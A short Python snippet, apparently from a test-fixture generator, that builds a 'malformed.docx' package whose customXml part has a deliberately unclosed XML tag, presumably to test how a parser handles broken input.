write("malformed.docx", [
    ("[Content_Types].xml", ctypes([("xml", "application/xml")], [("/word/document.xml", WORD_MAIN)])),
    ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml"))),
    ("word/document.xml", DECL + "<w:document %s><w:body>%s</w:body></w:document>" % (W, para("malformed-text"))),
    ("word/_rels/document.xml.rels", rels(("rIdX", "customXml", "../customXml/item1.xml"))),
    ("customXml/item1.xml", DECL + "<root><a>unclosed</root>"),
])
